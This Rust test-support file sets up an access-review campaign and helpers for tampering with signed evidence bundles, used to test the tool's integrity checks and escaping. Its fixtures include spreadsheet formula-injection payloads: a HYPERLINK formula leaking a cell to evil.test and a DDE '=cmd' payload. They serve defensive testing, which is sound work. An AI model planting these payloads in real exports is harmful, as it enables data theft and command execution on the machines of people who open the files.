//! Shared set-up for the evidence tests (`tests/evidence.rs`): one completed campaign with every
//! kind of outcome an auditor must see, and small tools to copy, doctor and re-sign bundles the
//! way someone covering their tracks would.
//!
//! The campaign ("quarterly-high-risk", 19 items, all in the Global Administrator and Privileged
//! Role Administrator roles) is run with a manual clock placed relative to the real clock, so
//! that `attest report …` (which reads the real clock) sees it as a review done last week:
//! - `m1` attests and revokes with justifications, changes their mind once (a superseded
//!   decision), and some holders' names and justifications begin with `=`, `+`, `-` or `@`;
//! - `m2` attests ten items in one bulk request (flagged as possible rubber-stamping);
//! - `m3` never answers: their two items are removed by the policy (`on_no_response = remove`);
//! - `bg1`, a break-glass account, is excluded (reviewed, never removed automatically);
//! - the Reader role (low risk, holders, outside the scope) is never reviewed.
#![allow(dead_code)]

use crate::campaign_support::{self as cs, OrgFiles};
use crate::common::TestDb;
use attest::clock::ManualClock;
use attest::domain::closing::Verdict;
use attest::engine::{Engine, NoProgress};
use attest::evidence::manifest::{FileEntry, Manifest};
use attest::evidence::signing;
use chrono::{DateTime, Duration, SubsecRound, Utc};
use ed25519_dalek::SigningKey;
use sha2::{Digest, Sha256};
use std::collections::HashMap;
use std::path::{Path, PathBuf};
use std::sync::Arc;

pub const GA: &str = "Global Administrator";
pub const PRA: &str = "Privileged Role Administrator";
pub const READER: &str = "Reader";
pub const DEFINITION: &str = "quarterly-high-risk";

/// Holder names a spreadsheet would run as formulas.
pub const NAME_EQ: &str = "=HYPERLINK(\"http://evil.test/?leak=\"&A1,\"Click me\")";
pub const NAME_PLUS: &str = "+1-555-0100 Phone Person";
pub const NAME_MINUS: &str = "-2+3 Minus Person";
pub const NAME_AT: &str = "@SUM(A1:A9) At Person";
/// Ordinary names that must round-trip exactly: a comma, quotes, an apostrophe, non-ASCII.
pub const NAME_COMMA: &str = "O'Brien, Zoë \"Zed\"";
pub const NAME_UNICODE: &str = "Łukasz Żółć-Müller 李小龍";
/// A reviewer's name that is also markup: report.html must show it as text.
pub const NAME_MARKUP: &str = "Mute <i>Manager</i> & Co";

/// Justifications a spreadsheet would run as formulas.
pub const WHY_EQ: &str = "=cmd|' /C calc'!A0";
pub const WHY_PLUS: &str = "+1 approved by the CISO";
pub const WHY_MINUS: &str = "-still needed for the DR drill";
pub const WHY_AT: &str = "@ops-lead confirmed the on-call rota";
/// An ordinary justification with a comma, quotes, non-ASCII and a line break.
pub const WHY_PLAIN: &str =
    "Left the team, see \"HR-1234\"; Zoë's note:\nno longer on call, access not needed";
pub const WHY_PRA: &str = "Runs the prod subscription, per Jürgen";

/// Who holds what: (id, name, email, manager, kind).
fn people() -> Vec<(String, String, String, String, &'static str)> {
    let mut people: Vec<(String, String, String, String, &'static str)> = vec![
        p("own", "Olga Owner", "", "user"),
        p("fb", "Frank Fallback", "", "user"),
        p("m1", "Maria Manager", "own", "user"),
        p("m2", "Max Stamp", "own", "user"),
        p("m3", NAME_MARKUP, "own", "user"),
        p("f1", NAME_EQ, "m1", "user"),
        p("f2", NAME_PLUS, "m1", "user"),
        p("f3", NAME_MINUS, "m1", "user"),
        p("f4", NAME_AT, "m1", "user"),
        p("o1", NAME_COMMA, "m1", "user"),
        p("o2", NAME_UNICODE, "m1", "user"),
        p("n1", "Quiet One", "m3", "user"),
        p("n2", "Quiet Two", "m3", "user"),
        p("bg1", "Emergency access", "", "break_glass"),
        p("r1", "Reader Only", "m1", "user"),
    ];
    for i in 1..=10 {
        people.push(p(
            &format!("s{i:02}"),
            &format!("Stamped Report {i:02}"),
            "m2",
            "user",
        ));
    }
    people
}

fn p(
    id: &str,
    name: &str,
    manager: &str,
    kind: &'static str,
) -> (String, String, String, String, &'static str) {
    (
        id.to_string(),
        name.to_string(),
        format!("{id}@org.test"),
        manager.to_string(),
        kind,
    )
}

/// The people file, written with a CSV writer so the odd names are quoted as RFC 4180 says.
fn people_csv() -> String {
    let mut w = csv::Writer::from_writer(Vec::new());
    w.write_record(["id", "name", "email", "manager_id", "kind", "enabled"])
        .expect("header");
    for (id, name, email, manager, kind) in people() {
        w.write_record([
            id.as_str(),
            name.as_str(),
            email.as_str(),
            manager.as_str(),
            kind,
            "true",
        ])
        .expect("row");
    }
    String::from_utf8(w.into_inner().expect("flush")).expect("utf-8")
}

const ROLES: &str = "\
name,owner_id,risk,description
Global Administrator,own,high,Everything
Privileged Role Administrator,own,high,Assigns roles
Reader,own,low,Reads everything
";

fn eligibility_csv() -> String {
    let mut text = String::from("principal_id,role,scope,start,end,last_activated_at\n");
    let mut ga: Vec<String> = ["f1", "f2", "f3", "f4", "o1", "n1", "n2", "bg1"]
        .iter()
        .map(|s| s.to_string())
        .collect();
    ga.extend((1..=10).map(|i| format!("s{i:02}")));
    for holder in ga {
        text.push_str(&format!("{holder},{GA},/,2025-01-10,,2026-06-01\n"));
    }
    text.push_str(&format!(
        "o2,{PRA},/subscriptions/prod,2025-01-10,,2026-06-01\n"
    ));
    text.push_str(&format!("o1,{READER},/,2025-01-10,,\n"));
    text.push_str(&format!("r1,{READER},/,2025-01-10,,\n"));
    text
}

const QUARTERLY: &str = r#"
name = "quarterly-high-risk"
description = "Quarterly review of high-risk role eligibility"
owner = "own"
schedule = "quarterly"
timezone = "UTC"
duration_days = 14
reviewers = "manager"
fallback_reviewer = "fb"
on_no_response = "remove"
reminders_days_before = [7, 2]
require_justification = ["revoke"]

[scope]
risk = ["high"]
"#;

/// What the scenario set up, for the assertions.
pub struct Scenario {
    pub db: TestDb,
    pub clock: Arc<ManualClock>,
    pub engine: Engine,
    pub campaign_id: i64,
    /// Principal database ids by external id.
    pub principals: HashMap<String, i64>,
    /// Item ids by holder external id (every holder has one item).
    pub items: HashMap<String, i64>,
    pub launched_at: DateTime<Utc>,
    pub closed_at: DateTime<Utc>,
}

/// The counts the scenario is built to produce.
pub const POPULATION: usize = 19;
pub const HUMAN_DECIDED: usize = 16;
pub const HUMAN_REVOKED: usize = 2;
pub const HUMAN_ATTESTED: usize = 14;
pub const POLICY_REMOVED: usize = 2;
pub const EXCLUDED: usize = 1;
/// Decision rows: 17 by people (one superseded) and 3 by the policy.
pub const DECISION_ROWS: usize = 20;
/// Holders whose eligibility is removed (revoked or by the policy).
pub const REMOVED: [&str; 4] = ["f1", "o1", "n1", "n2"];
/// The ten items `m2` attests in one request.
pub fn stamped() -> Vec<String> {
    (1..=10).map(|i| format!("s{i:02}")).collect()
}

impl Scenario {
    /// Runs the campaign from import to completion.
    pub async fn completed() -> Self {
        // Launched ten days ago, closed a week ago (whole seconds, so every timestamp
        // round-trips through both databases and RFC 3339 exactly).
        let launched_at = (Utc::now() - Duration::days(10)).trunc_subsecs(0);
        let db = TestDb::new().await;
        let clock = cs::clock_at(launched_at - Duration::hours(1));
        let engine = db.engine_at(clock.clone()).await;
        let people = people_csv();
        let eligibility = eligibility_csv();
        cs::import_org(
            &db,
            &engine,
            &OrgFiles {
                people: &people,
                roles: ROLES,
                eligibility: &eligibility,
            },
        )
        .await;
        cs::define(&db, &engine, "quarterly.toml", QUARTERLY).await;
        let principals = cs::principal_ids(&engine).await;

        clock.set(launched_at);
        let campaign = engine
            .launch(DEFINITION, false, "admin", &NoProgress)
            .await
            .expect("launch");
        assert_eq!(campaign.state.as_str(), "active", "{campaign:?}");
        let cid = campaign.id;
        let its = cs::items(&engine, cid).await;
        assert_eq!(its.len(), POPULATION, "population at launch: {its:?}");
        let items: HashMap<String, i64> = its
            .iter()
            .map(|i| (i.holder_external_id.clone(), i.id))
            .collect();
        assert_eq!(items.len(), POPULATION, "one item per holder");

        // m1 answers item by item, five minutes apart, and changes their mind about f1.
        let m1 = principals["m1"];
        let mut at = launched_at + Duration::days(1);
        for (holder, verdict, why) in [
            ("f1", Verdict::Attest, None),
            ("f1", Verdict::Revoke, Some(WHY_EQ)),
            ("f2", Verdict::Attest, Some(WHY_PLUS)),
            ("f3", Verdict::Attest, Some(WHY_MINUS)),
            ("f4", Verdict::Attest, Some(WHY_AT)),
            ("o1", Verdict::Revoke, Some(WHY_PLAIN)),
            ("o2", Verdict::Attest, Some(WHY_PRA)),
        ] {
            clock.set(at);
            let r = cs::decide(&engine, cid, m1, &[items[holder]], verdict, why)
                .await
                .unwrap_or_else(|e| panic!("m1 decides {holder}: {e}"));
            assert_eq!(r.decided, 1, "{holder}: {r:?}");
            at += Duration::minutes(5);
        }

        // m2 attests all ten at once.
        clock.set(launched_at + Duration::days(2));
        let ten: Vec<i64> = stamped().iter().map(|h| items[h.as_str()]).collect();
        let r = cs::decide(&engine, cid, principals["m2"], &ten, Verdict::Attest, None)
            .await
            .expect("m2's bulk attest");
        assert_eq!(r.decided, 10, "{r:?}");

        // An admin closes early; the removals run; the campaign completes.
        let closed_at = launched_at + Duration::days(3);
        clock.set(closed_at);
        let closed = engine.close(cid, "admin").await.expect("close");
        assert_eq!(closed.rail_reason, None, "a safety rail held removals");
        for _ in 0..100 {
            if engine.remediate_step().await.expect("remediate") == 0 {
                break;
            }
        }
        let completed = engine.complete_finished().await.expect("complete");
        assert_eq!(completed, vec![cid], "the campaign did not complete");
        let view = engine.campaign(cid).await.expect("show");
        assert_eq!(view.campaign.state.as_str(), "completed");
        let c = &view.counts;
        assert_eq!(
            (
                c.items,
                c.decided,
                c.attested,
                c.revoked,
                c.removed_by_policy,
                c.excluded,
                c.removed,
                c.removals_failed
            ),
            (
                POPULATION as i64,
                HUMAN_DECIDED as i64,
                HUMAN_ATTESTED as i64,
                HUMAN_REVOKED as i64,
                POLICY_REMOVED as i64,
                EXCLUDED as i64,
                REMOVED.len() as i64,
                0
            ),
            "the scenario did not produce the counts it is built for: {c:?}"
        );

        Scenario {
            db,
            clock,
            engine,
            campaign_id: cid,
            principals,
            items,
            launched_at,
            closed_at,
        }
    }

    /// A path in the test's scratch folder.
    pub fn path(&self, name: &str) -> PathBuf {
        self.db.dir().join(name)
    }

    /// The instance's public key, as `attest evidence key` prints it.
    pub fn public_key_cli(&self) -> String {
        let (code, out, err) = crate::common::attest_cli(&self.db, &["evidence", "key"]);
        assert_eq!(code, 0, "attest evidence key: {err}");
        let key = out.trim().to_string();
        assert_eq!(key.len(), 64, "not a hex Ed25519 key: {out:?}");
        key
    }

    /// `attest evidence verify PATH [--key KEY]` as an auditor runs it, away from the instance
    /// (no database at hand): (exit code, stdout, stderr).
    pub fn verify_cli(&self, path: &Path, key: Option<&str>) -> (i32, String, String) {
        let path = path.to_string_lossy().into_owned();
        let mut args = vec!["evidence", "verify", path.as_str()];
        if let Some(key) = key {
            args.extend(["--key", key]);
        }
        crate::common::attest_cli_without_database(self.db.dir(), &args)
    }

    /// `attest evidence verify PATH` on the instance itself: its database pins the signer.
    pub fn verify_cli_on_instance(&self, path: &Path) -> (i32, String, String) {
        let path = path.to_string_lossy().into_owned();
        crate::common::attest_cli(&self.db, &["evidence", "verify", path.as_str()])
    }
}

/// The data files of a bundle, in the order the manifest lists them.
pub const DATA_FILES: [&str; 7] = [
    "items.csv",
    "decisions.csv",
    "after_remediation.csv",
    "audit.jsonl",
    "suspensions.csv",
    "campaign.json",
    "report.html",
];

/// Copies a folder bundle (flat) into a new folder.
pub fn copy_bundle(from: &Path, to: &Path) {
    std::fs::create_dir_all(to).expect("create copy");
    for entry in std::fs::read_dir(from).expect("read bundle") {
        let entry = entry.expect("entry");
        std::fs::copy(entry.path(), to.join(entry.file_name())).expect("copy file");
    }
}

/// Changes the byte in the middle of `file` to another printable one.
pub fn flip_middle_byte(file: &Path) {
    let mut bytes = std::fs::read(file).expect("read");
    let i = bytes.len() / 2;
    bytes[i] = if bytes[i] == b'x' { b'y' } else { b'x' };
    std::fs::write(file, bytes).expect("write");
}

/// Changes one hex digit of the first SHA-256 the manifest lists (the JSON stays valid).
pub fn flip_manifest_hash_digit(file: &Path) {
    let mut bytes = std::fs::read(file).expect("read");
    let text = String::from_utf8(bytes.clone()).expect("utf-8");
    let at = text.find("\"sha256\"").expect("a sha256 in the manifest");
    let quote = at + text[at + 8..].find('"').expect("value") + 8;
    let i = quote + 1;
    bytes[i] = if bytes[i] == b'0' { b'1' } else { b'0' };
    std::fs::write(file, bytes).expect("write");
}

/// The byte ranges of each record of a CSV file (header first), as the csv crate reads them.
pub fn csv_record_ranges(bytes: &[u8]) -> Vec<std::ops::Range<usize>> {
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(bytes);
    let mut starts = Vec::new();
    let mut record = csv::ByteRecord::new();
    loop {
        let start = reader.position().byte() as usize;
        if !reader.read_byte_record(&mut record).expect("csv") {
            break;
        }
        starts.push(start);
    }
    let mut ranges = Vec::new();
    for (k, &s) in starts.iter().enumerate() {
        let end = starts.get(k + 1).copied().unwrap_or(bytes.len());
        ranges.push(s..end);
    }
    ranges
}

/// Deletes data record `k` (0 = the first after the header) from a CSV file, byte-exactly.
pub fn delete_csv_record(file: &Path, k: usize) -> String {
    let bytes = std::fs::read(file).expect("read");
    let ranges = csv_record_ranges(&bytes);
    let range = ranges[k + 1].clone();
    let removed = String::from_utf8_lossy(&bytes[range.clone()]).into_owned();
    let mut out = bytes[..range.start].to_vec();
    out.extend_from_slice(&bytes[range.end..]);
    std::fs::write(file, out).expect("write");
    removed
}

/// Deletes line `k` (0-based) of a text file.
pub fn delete_line(file: &Path, k: usize) -> String {
    let text = std::fs::read_to_string(file).expect("read");
    let mut lines: Vec<&str> = text.split_inclusive('\n').collect();
    let removed = lines.remove(k).to_string();
    std::fs::write(file, lines.concat()).expect("write");
    removed
}

pub fn sha256_hex(bytes: &[u8]) -> String {
    hex::encode(Sha256::digest(bytes))
}

/// What an attacker without the instance's key can do: recompute every hash of a folder
/// bundle and sign the manifest with their own key.
pub fn resign(dir: &Path, key: &SigningKey) -> Manifest {
    let text = std::fs::read_to_string(dir.join("manifest.json")).expect("read manifest");
    let old: Manifest = serde_json::from_str(&text).expect("parse manifest");
    let files: Vec<FileEntry> = old
        .body
        .files
        .iter()
        .map(|f| {
            let bytes = std::fs::read(dir.join(&f.name)).expect("read file");
            FileEntry {
                name: f.name.clone(),
                sha256: sha256_hex(&bytes),
                bytes: bytes.len() as u64,
            }
        })
        .collect();
    let signed = signing::sign(key, old.body.campaign_id, old.body.generated_at, files);
    std::fs::write(
        dir.join("manifest.json"),
        serde_json::to_vec_pretty(&signed).expect("serialise"),
    )
    .expect("write manifest");
    signed
}

/// The attacker's key.
pub fn attacker_key() -> SigningKey {
    SigningKey::from_bytes(&[9u8; 32])
}

/// Rewrites a zip bundle with `name`'s content passed through `change`.
pub fn rewrite_zip(from: &Path, to: &Path, name: &str, change: impl Fn(&mut Vec<u8>)) {
    use std::io::{Read, Write};
    let mut zin =
        zip::ZipArchive::new(std::fs::File::open(from).expect("open zip")).expect("read zip");
    let mut zout = zip::ZipWriter::new(std::fs::File::create(to).expect("create zip"));
    for i in 0..zin.len() {
        let mut entry = zin.by_index(i).expect("entry");
        let entry_name = entry.name().to_string();
        let mut bytes = Vec::new();
        entry.read_to_end(&mut bytes).expect("read entry");
        if entry_name == name {
            change(&mut bytes);
        }
        zout.start_file(
            entry_name,
            zip::write::SimpleFileOptions::default()
                .compression_method(zip::CompressionMethod::Deflated),
        )
        .expect("start entry");
        zout.write_all(&bytes).expect("write entry");
    }
    zout.finish().expect("finish zip");
}

/// The names of the entries of a zip.
pub fn zip_names(path: &Path) -> Vec<String> {
    let zip = zip::ZipArchive::new(std::fs::File::open(path).expect("open zip")).expect("zip");
    let mut names: Vec<String> = zip.file_names().map(str::to_string).collect();
    names.sort();
    names
}

/// One entry of a zip.
pub fn zip_entry(path: &Path, name: &str) -> Vec<u8> {
    use std::io::Read;
    let mut zip = zip::ZipArchive::new(std::fs::File::open(path).expect("open zip")).expect("zip");
    let mut bytes = Vec::new();
    zip.by_name(name)
        .unwrap_or_else(|e| panic!("{name} in {}: {e}", path.display()))
        .read_to_end(&mut bytes)
        .expect("read entry");
    bytes
}
